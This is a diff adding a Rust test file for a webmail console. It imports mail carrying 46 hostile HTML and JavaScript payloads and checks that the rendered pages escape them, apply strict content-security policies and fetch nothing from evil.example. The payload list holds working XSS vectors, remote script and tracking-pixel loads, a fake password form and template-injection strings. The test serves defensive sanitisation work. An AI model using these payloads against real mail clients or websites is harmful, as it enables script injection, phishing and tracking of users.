@@ -1,0 +1,230 @@
+//! Mail that is made to break out of the pages that show it: nothing of it runs, loads anything, or looks like ours.
+
+use std::fs;
+
+use crate::{browser::Browser, people::log_in, site::Site, support::appliance::PROFILE};
+
+/// What is tried, in a page or in any text. What would run sets `evil` or asks evil.example for something.
+const TRIES: [&str; 46] = [
+    "<script>window.evil=1</script>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "</title><script>evil=1</script>",
+    "</pre></div></main><script>evil=1</script>",
+    "\"><script>evil=1</script>",
+    "' onmouseover='evil=1",
+    "\" onfocus=\"evil=1\" autofocus=\"",
+    "<img src=x onerror=evil=1>",
+    "<img src=https://evil.example/pixel.gif width=1 height=1>",
+    "<img srcset='https://evil.example/set.png 1x'>",
+    "<picture><source srcset=https://evil.example/p.png><img></picture>",
+    "<svg onload=evil=1>",
+    "<svg><script>evil=1</script></svg>",
+    "<svg><image href=https://evil.example/i.svg /></svg>",
+    "<svg><animate onbegin=evil=1 attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=evil=1&gt;\">",
+    "<body onload=evil=1 background=https://evil.example/b.png>",
+    "<iframe src=https://evil.example/frame></iframe>",
+    "<iframe srcdoc='<script>parent.evil=1</script>'></iframe>",
+    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/refresh'>",
+    "<base href=https://evil.example/>",
+    "<link rel=stylesheet href=https://evil.example/s.css>",
+    "<link rel=prefetch href=https://evil.example/prefetch>",
+    "<style>@import url(https://evil.example/i.css); body { background: url(https://evil.example/bg) }</style>",
+    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example/st)\">evil</p>",
+    "<div style='background-image:url(//evil.example/d)'>evil",
+    "<a href=javascript:evil=1 id=js>evil</a>",
+    "<a href=\"&#106;avascript:evil=1\">evil</a>",
+    "<a href='data:text/html,<script>opener.evil=1</script>'>evil</a>",
+    "<a href=\" java\tscript:evil=1\">evil</a>",
+    "<a href=https://evil.example/link ping=https://evil.example/ping>evil</a>",
+    "<form action=https://evil.example/form><input name=password autofocus><button>evil</button></form>",
+    "<form action=/console/log-out method=post><button>evil</button></form>",
+    "<input type=image src=https://evil.example/in.png formaction=https://evil.example/x>",
+    "<video src=https://evil.example/v poster=https://evil.example/poster autoplay onerror=evil=1></video>",
+    "<audio src=https://evil.example/a autoplay></audio>",
+    "<table background=https://evil.example/t><td background=https://evil.example/td>evil",
+    "<details open ontoggle=evil=1>evil",
+    "<marquee onstart=evil=1>evil</marquee>",
+    "<template><script>evil=1</script></template><noscript><p title=\"</noscript><img src=x onerror=evil=1>\">",
+    "<textarea></textarea><script>evil=1</script>",
+    "<!--><script>evil=1</script>-->",
+    "\u{202e}evil\u{2066}live\u{202e} \u{200b}\u{feff}evil\u{0}",
+    "{{constructor.constructor('evil=1')()}} ${evil=1} <%= evil %>",
+    "<a target=_top href=https://evil.example/top>evil</a><p id=main class=notice>evil",
+];
+
+/// Where it stands: for each place a message with it there.
+const PLACES: usize = 7;
+
+fn mail(attempt: &str, place: usize, number: usize) -> Vec<u8> {
+    let word = |at: usize| {
+        if at == place {
+            attempt.replace(['\r', '\n', '\0'], " ")
+        } else {
+            format!("plain{at}")
+        }
+    };
+    let quoted = |text: String| text.replace('\\', "").replace('"', "\\\"");
+    let page = if place == 5 { attempt } else { "<p>Hello</p>" };
+    let text = if place == 4 { attempt } else { "Hello" };
+    format!(
+        "From: \"{}\" <a@example.org>\r\nTo: \"{}\" <jane@example.com>\r\nSubject: {}\r\nX-Evil: {}\r\nMessage-ID: <{number}@x>\r\n\
+         MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: multipart/alternative; \
+         boundary=c\r\n\r\n--c\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n--c\r\nContent-Type: text/html; \
+         charset=utf-8\r\n\r\n{page}\r\n--c--\r\n--b\r\nContent-Type: message/rfc822; name=\"{}\"\r\n\r\nFrom: {}\r\nSubject: \
+         {}\r\n\r\n{}\r\n--b--\r\n",
+        quoted(word(0)),
+        quoted(word(1)),
+        word(2),
+        word(2),
+        quoted(word(3)),
+        word(6),
+        word(6),
+        word(6),
+    )
+    .into_bytes()
+}
+
+fn site() -> (Site, usize) {
+    let site = Site::new("", &[]);
+    site.add("jane", "user", &["jane"]);
+    let folder = site.path("hostile");
+    fs::create_dir(&folder).expect("a folder");
+    let mut number = 0;
+    for attempt in TRIES {
+        for place in 0..PLACES {
+            number += 1;
+            fs::write(folder.join(format!("{number:04}.eml")), mail(attempt, place, number)).expect("a file");
+        }
+    }
+    site.appliance
+        .done(&["import", "--profile", PROFILE, folder.to_str().expect("a name")]);
+    site.indexed();
+    (site, number)
+}
+
+/// Tags that bear something of the mail: none but links that can be followed, and images that are only named.
+fn suspects(page: &str) -> Vec<&str> {
+    let tags = page
+        .split('<')
+        .skip(1)
+        .filter_map(|rest| rest.split_once('>').map(|(tag, _)| tag));
+    let link = |tag: &str| {
+        let to = tag
+            .split_once("href=\"")
+            .and_then(|(_, rest)| rest.split('"').next())
+            .unwrap_or_default();
+        tag.starts_with("a ")
+            && (to.starts_with("https://evil.example/") || to.starts_with("/console/"))
+            && !tag.contains(" on")
+    };
+    let image = |tag: &str| tag.starts_with("img data-src=\"https://evil.example/");
+    tags.filter(|tag| tag.to_lowercase().contains("evil") && !link(tag) && !image(tag))
+        .collect()
+}
+
+#[test]
+fn nothing_of_hostile_mail_is_markup_in_what_is_served() {
+    let (site, all) = site();
+    assert!(all >= 300, "{all}");
+    let (jane, _) = log_in(&site, "jane", "");
+    let mut pages = 0;
+    for id in 1..=all {
+        for below in ["", "?view=text", "?outside=1", "/body", "/headers", "/nested/3"] {
+            let path = format!("/console/mail/{id}{below}");
+            let reply = jane.get(&path).expect(200);
+            let page = reply.text();
+            assert!(suspects(&page).is_empty(), "{path}: {:?}\n{page}", suspects(&page));
+            let scripts = if below == "/body" { 0 } else { 1 };
+            assert_eq!(page.matches("<script").count(), scripts, "{path}: {page}");
+            for forbidden in [
+                "<style",
+                " style=",
+                "<meta http-equiv",
+                "<base",
+                "<object",
+                "<embed",
+                "<svg",
+                "<input name=password",
+            ] {
+                assert!(!page.contains(forbidden), "{path}: {forbidden}\n{page}");
+            }
+            let policy = reply.field("content-security-policy");
+            let shut_in = "default-src 'none'; style-src 'self'; img-src data:; base-uri 'none'; form-action 'none'; \
+                           frame-ancestors 'self'; sandbox allow-popups allow-popups-to-escape-sandbox";
+            if below == "/body" {
+                assert_eq!(policy, shut_in);
+            } else {
+                assert!(policy.starts_with("default-src 'none'; style-src 'self'; script-src 'self'; img-src 'self';"));
+            }
+            pages += 1;
+        }
+        let source = jane.get(&format!("/console/mail/{id}/source")).expect(200);
+        assert_eq!(source.field("content-type"), "text/plain; charset=utf-8");
+        assert!(source.field("content-security-policy").ends_with("sandbox"));
+        let file = jane.get(&format!("/console/mail/{id}/parts/3")).expect(200);
+        assert_eq!(file.field("content-type"), "application/octet-stream");
+        assert!(file.field("content-disposition").starts_with("attachment"));
+    }
+    for list in [
+        "/console/mail",
+        "/console/mail?q=%3Cscript%3Eevil%3D1",
+        "/console/archives/jane",
+    ] {
+        let page = jane.get(list).text();
+        assert!(suspects(&page).is_empty(), "{list}: {:?}", suspects(&page));
+    }
+    assert_eq!(pages, all * 6);
+}
+
+#[test]
+fn nothing_of_hostile_mail_runs_or_is_asked_for_in_a_browser() {
+    let (site, all) = site();
+    let browser = Browser::new(&site);
+    browser.log_in("jane", "/console/mail");
+    browser.asked_for();
+    let same = |path: &str| {
+        browser.open(path);
+        assert_eq!(browser.at(), path);
+        let evil = browser.run(
+            "return [window.evil ?? null, document.title.length > 0, !!document.querySelector('main h1')]",
+            &serde_json::json!([]),
+        );
+        assert_eq!(evil, serde_json::json!([null, true, true]), "{path}");
+    };
+    for id in 1..=all {
+        same(&format!("/console/mail/{id}"));
+        // Of those in other places the page of the message is the same.
+        if (id - 1) % PLACES == 4 {
+            same(&format!("/console/mail/{id}?view=text"));
+        }
+        if (id - 1) % PLACES == 6 {
+            same(&format!("/console/mail/{id}/nested/3"));
+        }
+    }
+    same("/console/mail");
+    same("/console/archives/jane");
+    assert_eq!(browser.asked_elsewhere(), Vec::<String>::new());
+    // Where somebody asks for them, images are loaded, and nothing else is.
+    let with_pixel = TRIES
+        .iter()
+        .position(|attempt| attempt.contains("pixel.gif"))
+        .expect("it")
+        * PLACES
+        + 6;
+    assert!(browser.text("body").len() > 10);
+    browser.open(&format!("/console/mail/{with_pixel}"));
+    assert!(
+        browser.text("main").contains("1 image lies elsewhere"),
+        "{}",
+        browser.text("main")
+    );
+    browser.click(".notice a");
+    let mut asked = Vec::new();
+    browser.waits_for("the image", |browser| {
+        asked.extend(browser.asked_elsewhere());
+        !asked.is_empty()
+    });
+    assert_eq!(asked, ["https://evil.example/pixel.gif"]);
+}
